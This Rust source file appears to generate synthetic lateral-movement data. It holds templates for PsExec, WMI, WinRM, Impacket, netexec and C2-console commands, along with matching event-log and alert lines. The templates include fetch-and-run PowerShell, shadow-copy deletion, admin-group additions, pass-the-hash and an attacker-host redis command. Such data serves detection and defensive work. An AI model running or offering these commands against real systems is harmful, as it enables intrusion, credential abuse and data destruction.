//! Lateral movement: remote services, shares, remote desktop, deployment tools.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("lateral-windows", "lateral-windows", Cmd, &[
        r"{psexec} ⟦\\{host}¦«-u {domain}\{user} -p {password}»¦«-s»¦«-accepteula»¦«-h»¦«-d»⟧ {c}",
        r"{psexec} @hosts.txt -d -c {dir}\{stem}.exe",
        concat!(
            r#"wmic /node:«{host}¦@hosts.txt¦"{ip}","{ip}"» «/user:{domain}\{user} /password:{password} "#,
            r#"»process call create "{c}""#,
        ),
        concat!(
            r#"schtasks /create /s {host} «/u {user} /p {password} »/tn {stem} /tr "{c}" /sc once /st "#,
            "{10..23}:{10..59} /ru SYSTEM & schtasks /run /s {host} /tn {stem}",
        ),
        concat!(
            r#"sc \\{host} create {stem} binpath= "{c}" start= demand & sc \\{host} start {stem} & sc \\{host} "#,
            "delete {stem}",
        ),
        r#"winrs -r:{host} «-u:{user} -p:{password} »"{c}""#,
        concat!(
            r#"winrm «quickconfig -q¦set winrm/config/client @{TrustedHosts="*"}¦enumerate "#,
            "winrm/config/listener¦invoke Create wmicimv2/Win32_Process ",
            r#"@{CommandLine="{stem}.exe";CurrentDirectory="C:\"} -r:http://{host}:5985¦get winrm/config»"#,
        ),
        r"net use \\{host}\«C$¦ADMIN$¦IPC$¦{share}» «{password} »/user:{domain}\{user}",
        r"net use {link} \\{host}\C$ & copy {dir}\{stem}.exe {link}\Windows\Temp\ & net use {link} /delete",
        r"copy {dir}\{stem}.exe \\{host}\«C$\Windows\Temp¦ADMIN$¦C$\ProgramData¦C$\Users\Public»\{stem}.exe",
        r"xcopy {dir}\{stem} \\{host}\C$\ProgramData\{stem}\ /s /y",
        r"robocopy {dir} \\{host}\ADMIN$\Temp {stem}.exe",
        "mstsc /v:{host}« /restrictedadmin¦ /admin¦ /shadow:{1..5} /noConsentPrompt /control»",
        concat!(
            r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v «fDenyTSConnections /t "#,
            "REG_DWORD /d 0¦fSingleSessionPerUser /t REG_DWORD /d 0» /f",
        ),
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f",
        concat!(
            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD "#,
            "/d 2 /f",
        ),
        "query user /server:{host} & tscon {1..9} /dest:rdp-tcp#{1..90} /password:{password}",
        concat!(
            r#"netsh advfirewall firewall set rule group="«remote desktop¦Windows Remote Management¦remote "#,
            r#"event log management»" new enable=Yes"#,
        ),
        "cmdkey /generic:TERMSRV/{host} /user:{user} /pass:{password} & mstsc /v:{host}",
        r#"SharpRDP.exe computername={host} command="{c}" username={domain}\{user} password={password}"#,
        concat!(
            "«SharpExec¦SharpWMI¦SharpMove¦SharpCOM¦CsExec¦SharpPsExec¦SharpNoPSExec¦Lateral¦SCShell»«.exe» ",
            "«-m=wmi -i={host} -u={user} -p={password} -d={domain} -e={stem}.exe¦action=exec ",
            r#"computername={host} command="{c}"¦--method ShellWindows --computername {host} --command "#,
            r#"{stem}¦{host} {svcname} "{c}" {domain} {user} {password}¦--target={host} --service={svcname} "#,
            r#"--payload="{c}"»"#,
        ),
        r"at \\{host} {10..23}:{10..59} {c}",
        r"mmc20.exe -Embedding & rundll32 {dir}\{stem}.dll,Exec {host}",
        r#"cme smb {cidr} -u {user} -p {password} -x "{c}""#,
        r#"sqlcmd -S {host} -«E¦U {user} -P {password}» -Q "EXEC xp_cmdshell '{c}'""#,
        concat!(
            r#"sqlcmd -S {host} -Q "EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC ('xp_cmdshell "#,
            r#"''{c}''') AT [{host}]""#,
        ),
        r"PsService.exe \\{host} start {svcname}",
        r"pskill \\{host} {stem} & pslist \\{host}",
        r#"ssh {user}@{host} "{c}""#,
        r#"plink.exe -ssh -pw {password} {user}@{host} "{c}""#,
        r"scp {dir}\{stem}.exe {user}@{host}:/C:/Windows/Temp/",
        concat!(
            r"«PDQDeployConsole.exe Deploy -Package {stem} -Targets {host}¦RemCom.exe \\{host} {c}¦paexec ",
            r"\\{host} -s {c}¦winexesvc.exe¦csexec \\{host} cmd¦xcmd.exe \\{host} /user:{user} {c}»",
        ),
    ])
    .slots(&[
        ("c", concat!(
                r"«cmd.exe¦{dir}\{stem}.exe¦cmd /c {dir}\{stem}.bat¦powershell -nop -w hidden -enc ",
                r"{b64_60}¦whoami¦hostname¦rundll32.exe {dir}\{stem}.dll,Start¦ipconfig /all¦net localgroup ",
                r"administrators {user} /add¦reg query HKLM\{softkey}¦cmd /c vssadmin delete shadows /all ",
                r"/quiet¦C:\Windows\Temp\{stem}.exe -{alnum3}»",
            )),
    ])
    .weight(14),
    Family::other("lateral-powershell", "lateral-powershell", Ps, &[
        concat!(
            "Invoke-Command -ComputerName «{host}¦$targets¦(Get-Content hosts.txt)¦{host},{host}» ",
            "«-Credential $cred »-ScriptBlock { {c} }",
        ),
        concat!(
            "Enter-PSSession «-ComputerName {host}¦{host}¦-HostName {host} -UserName {user}»« -Credential ",
            r"{domain}\{user}»« -Authentication Negotiate»",
        ),
        concat!(
            "$s = New-PSSession -ComputerName {host}« -Credential $c»; Invoke-Command -Session $s { {c} }; ",
            r"Copy-Item {psdir}\{stem}.exe -Destination C:\Windows\Temp -ToSession $s",
        ),
        concat!(
            "Invoke-WmiMethod -ComputerName {host} -Class Win32_Process -Name Create -ArgumentList '{c}'« ",
            "-Credential $cred»",
        ),
        concat!(
            "Invoke-CimMethod -ComputerName {host} -ClassName Win32_Process -MethodName Create -Arguments ",
            "@{CommandLine='{c}'}",
        ),
        r#"([wmiclass]"\\{host}\root\cimv2:Win32_Process").Create('{c}')"#,
        concat!(
            "[Activator]::CreateInstance([Type]::GetTypeFromCLSID('«9BA05972-F6A8-11CF-A442-00A0C90A8F39¦C08A",
            "FD90-F2A1-11D1-8455-00A0C91F3880¦{GUID}»','{host}')).item().Document.Application.ShellExecute('c",
            r"md.exe','/c {stem}','C:\Windows\System32',$null,0)",
        ),
        r"Enable-PSRemoting -Force«; Set-Item WSMan:\localhost\Client\TrustedHosts -Value '*' -Force»",
        concat!(
            "Invoke-«PsExec -ComputerName {host} -Command '{c}'¦SMBExec -Target {ip} -Username {user} -Hash ",
            "{nthash} -Command '{c}'¦DCOM -ComputerName {host} -Method MMC20.Application -Command ",
            "'{c}'¦WMIExec -Target {ip}¦SQLOSCmd -Instance {host} -Command '{c}'¦ExecuteMSBuild ",
            "-ComputerName {host}¦PowerShellWmi -ComputerName {host} -ScriptBlock { whoami }»",
        ),
        r"Copy-Item {psdir}\{stem}.exe \\{host}\«C$\Windows\Temp¦ADMIN$\Temp¦{share}»\",
        r"New-SmbMapping -LocalPath {link} -RemotePath \\{host}\C$ -UserName {user} -Password {password}",
        concat!(
            "$so = New-CimSession -ComputerName {host}; Get-CimInstance Win32_Service -CimSession $so ",
            r#"-Filter "Name='{svcname}'""#,
        ),
        concat!(
            "Set-Service {svcname} -ComputerName {host} -StartupType Automatic; Get-Service {svcname} ",
            "-ComputerName {host} | Start-Service",
        ),
        concat!(
            r"Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' fDenyTSConnections 0; ",
            "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
        ),
        concat!(
            "Register-ScheduledTask -CimSession {host} -TaskName {stem} -Action (New-ScheduledTaskAction ",
            "-Execute '{c}') -User SYSTEM",
        ),
        "Find-PSRemotingLocalAdminAccess; Get-PSSession -ComputerName {host} | Disconnect-PSSession",
        "Get-VM {plainhost} | Invoke-VMScript -ScriptText '{c}' -GuestUser {user} -GuestPassword {password}",
    ])
    .slots(&[
        ("c", concat!(
                "«whoami¦hostname¦Get-Process¦ipconfig /all¦iex (irm ",
                r"{url})¦C:\Windows\Temp\{stem}.exe¦Get-ItemProperty HKLM:\{softkey}¦net localgroup ",
                r"administrators¦Get-Service {svcname}¦Get-ChildItem C:\Users¦quser¦vssadmin list ",
                r"shadows¦Get-LocalUser¦rundll32 C:\Windows\Temp\{stem}.dll,Run»",
            )),
    ])
    .weight(9),
    Family::other("lateral-unix", "lateral-unix", Sh, &[
        "{x} {target}« {impauth}»« '{c}'»",
        r#"{x} {impauth} {domain}/{user}@{rhost} "{c}""#,
        concat!(
            "evil-winrm -i {rhost} -u {user} «-p {password}¦-H {nthash}¦-k -r {domain}»« -s {shdir} -e ",
            "{shdir}¦ -S»",
        ),
        concat!(
            "{nxc} «smb¦winrm¦wmi¦mssql¦ssh» {nxctarget} {nxcauth} «-x '{c}'¦-X '$PSVersionTable'¦--put-file ",
            r"{stem}.exe \\Windows\\Temp\\{stem}.exe¦--exec-method «atexec¦mmcexec¦smbexec» -x '{c}'¦-M ",
            "«met_inject¦empire_exec¦web_delivery¦rdp -o ACTION=enable¦msol¦schtask_as -o USER={user} ",
            "CMD=whoami¦pi¦impersonate¦winscp¦uac¦install_elevated¦wcc¦mssql_priv¦drop-sc¦shadowrdp¦bitlocker",
            "¦test_connection -o HOST={ip}»»",
        ),
        concat!(
            "«proxychains »xfreerdp«3» /v:{rhost} /u:{user} /p:{password}« /d:{domain}»« ",
            "/drive:{stem},{shdir}»« +clipboard» /cert:ignore",
        ),
        "rdesktop -u {user} -p {password} -d {domain} {rhost} -r disk:{share}={shdir}",
        concat!(
            "«proxychains -q »smbclient //{rhost}/«C$¦ADMIN$¦{share}» -U '{domain}/{user}%{password}' -c ",
            "'«ls¦put {stem}.exe¦get {stem}.txt¦recurse ON; prompt OFF; mget *»'",
        ),
        "winexe -U '{domain}/{user}%{password}' //{rhost} '{c}'",
        "ssh «-i {stem} ¦-J {user}@{host} ¦-o StrictHostKeyChecking=no »{user}@{rhost} '{c}'",
        "sshpass -p {password} scp {stem} {user}@{rhost}:/tmp/",
        "{i}mssqlclient.py {target} -windows-auth⏎SQL> enable_xp_cmdshell⏎SQL> xp_cmdshell {c}",
        "proxychains «-q »{x} {target} '{c}'",
        concat!(
            "{i}services.py {target} «list¦create -name {stem} -display {stem} -path '{c}'¦start -name ",
            "{stem}¦delete -name {stem}¦status -name {svcname}»",
        ),
        "{i}wmipersist.py {target} install -name {stem} -vbs {stem}.vbs -timer {1000..90000}",
        "{i}rdp_check.py {target}",
        r"{i}registry-read.py {stem} enum_key 'Microsoft\Windows'",
        "rsync -a {shdir}/ {user}@{rhost}:{shdir}",
        "ansible all -i hosts -m «shell¦win_shell¦win_command¦raw» -a '{c}'",
        "salt '*' cmd.run '{c}'",
        "pssh -h hosts.txt -l {user} -A '{c}'",
        "redis-cli -h {rhost} slaveof {attacker} 6379",
        "crackmapexec mssql {rhost} -u {user} -p {password} --local-auth -q 'select name from sys.databases'",
    ])
    .slots(&[
        ("x", concat!(
                "«proxychains psexec.py¦proxychains4 wmiexec.py¦proxychains -q ",
                "impacket-smbexec¦psexec.py¦wmiexec.py¦smbexec.py¦dcomexec.py¦atexec.py¦impacket-psexec¦impacket-",
                "wmiexec¦impacket-smbexec¦{python} {impketdir}wmiexec.py¦wmiexec2.py»",
            )),
        ("c", concat!(
                r"«whoami¦hostname¦ipconfig /all¦net user¦tasklist¦dir C:\\Users¦powershell -enc ",
                r"{b64_60}¦systeminfo¦C:\\Windows\\Temp\\{stem}.exe¦reg query ",
                r"HKLM\\SOFTWARE\\{vendor}¦quser¦id¦uname -a»",
            )),
        ("i", "«impacket-¦¦proxychains impacket-¦proxychains4 -q »"),
    ])
    .weight(9),
    Family::other("lateral-console", "lateral-console", Console, &[
        concat!(
            "beacon> «jump psexec64 {host} {stem}¦jump psexec_psh {host} {stem}¦jump winrm64 {host} ",
            "{stem}¦remote-exec wmi {host} {stem}.exe¦remote-exec psexec {host} cmd /c {stem}¦remote-exec ",
            "winrm {host} whoami¦link {host} {stem}¦connect {host} {port}¦ssh {ip} {user} {password}¦ssh-key ",
            r"{ip} {user} {stem}.pem¦upload {stem}.exe¦cp {stem}.exe \\{host}\ADMIN$\Temp¦shell sc \\{host} ",
            r"create {stem} binpath= C:\Windows\Temp\{stem}.exe¦jump dcom {host} {stem}¦unlink ",
            "{host}¦move-msbuild {host} http {stem}¦jump scshell {host} {stem}»",
        ),
        concat!(
            "[*] Tasked beacon to «run {stem} on {host} via Service Control Manager ",
            r"(\\{host}\ADMIN$\{alnum7}.exe)¦link to \\{host}\pipe\{stem}¦jump to {host}»",
        ),
        concat!(
            "meterpreter > «portfwd add -l {port} -p 3389 -r {ip}¦run autoroute -s {cidr}¦run ",
            "post/windows/manage/enable_rdp¦background⏎msf6 > use exploit/windows/smb/psexec⏎msf6 > set ",
            r#"RHOSTS {ip}⏎msf6 > run¦execute -f psexec.exe -a "\\\\{host} cmd"»"#,
        ),
        concat!(
            "use exploit/windows/«smb/psexec¦local/current_user_psexec¦winrm/winrm_script_exec¦local/wmi¦smb/",
            "ms17_010_psexec¦smb/webexec¦local/ps_wmi_exec¦rdp/cve_2019_0708_bluekeep_rce»⏎set RHOSTS ",
            "{ip}⏎set SMBUser {user}⏎set SMBPass «{password}¦{hashes}»⏎run",
        ),
        concat!(
            "sliver ({ALNUM8}) > «psexec -d {stem} -s {stem} {host}¦pivots tcp --bind {ip}¦pivots named-pipe ",
            "--bind {stem}¦execute -o wmic /node:{host} process call create {stem}.exe¦sharp-wmi action=exec ",
            "computername={host} command={stem}.exe¦upload {stem}.exe ",
            r"\\\\{host}\\C$\\Temp\\{stem}.exe¦scshell {host}»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule powershell/lateral_movement/«invoke_psexec¦invoke_wmi¦invoke_psre",
            "moting¦invoke_smbexec¦invoke_dcom¦invoke_executemsbuild¦invoke_sqloscmd¦invoke_sshcommand¦jenkin",
            "s_script_console¦new_gpo_immediate_task»⏎set ComputerName {host}⏎execute",
        ),
        concat!(
            "demon > «jump-exec psexec {host} {stem}.exe¦jump-exec scshell {host} {svcname} {stem}.exe¦pivot ",
            r"connect {host} {stem}¦pivot list¦dcenum¦cp {stem}.exe \\{host}\C$\Temp\{stem}.exe»",
        ),
        concat!(
            "mythic> «jump_psexec {host}¦jump_wmi {host}¦wmiexecute -Host {host} -Command {stem}.exe¦sc ",
            "-Create -ServiceName {stem} -Computer {host}¦link {host}¦net_shares {host}¦cp {stem} ",
            r"\\{host}\C$»",
        ),
        concat!(
            "covenant> «WMICommand {host} {stem}.exe¦WMIGrunt {host}¦DCOMCommand {host} ",
            "{stem}.exe¦PowerShellRemotingCommand {host} whoami¦Connect {host} {stem}»",
        ),
        concat!(
            "PoshC2> «invoke-wmipayload -target {ip}¦invoke-psexecpayload -target {ip}¦invoke-dcompayload ",
            "-target {ip}¦pbind-connect {host}¦sharpwmi action=exec computername={host} command={stem}»",
        ),
    ])
    .weight(7),
    Family::other("lateral-told", "lateral-told", Told, &[
        concat!(
            "{who} «moved laterally to¦connected to¦logged on to¦ran commands on¦copied a tool to¦opened a ",
            "remote desktop session to» {host} «with PsExec¦over WMI¦over WinRM¦over RDP¦with a scheduled ",
            "task¦through the ADMIN$ share¦with a remote service¦using stolen credentials¦with ",
            "pass-the-hash¦over SSH¦with DCOM».",
        ),
        concat!(
            "A service was installed in the system. Service Name: ",
            r"«PSEXESVC¦{alnum8}¦BTOBTO¦RemComSvc¦winexesvc» Service File Name: %SystemRoot%\{alnum8}.exe",
        ),
        concat!(
            "An account was successfully logged on. Logon Type: «3¦10» Account Name: {user} Workstation ",
            "Name: {plainhost} Source Network Address: {ip}",
        ),
        concat!(
            r"A network share object was accessed. Share Name: \\*\«ADMIN$¦C$¦IPC$» Account Name: {user} ",
            "Source Address: {ip}",
        ),
        concat!(
            "A logon was attempted using explicit credentials. Account: {user} Target Server Name: {host} ",
            r"Process Name: {dir}\{stem}.exe",
        ),
        r"Pipe Created: \«PSEXESVC¦RemCom_communicaton¦svcctl¦atsvc¦{stem}» on {plainhost}",
        concat!(
            "«Alert¦Detection»: «lateral movement¦remote service creation¦RDP hijacking¦remote WMI process ",
            "creation¦suspicious SMB file copy» from {ip} to {host}",
        ),
        "wsmprovhost.exe started {stem}.exe{where}.",
        concat!(
            r"Remote Desktop Services: Session logon succeeded: User: {domain}\{user} Session ID: {1..9} ",
            "Source Network Address: {ip}",
        ),
    ])
    .weight(6),
];
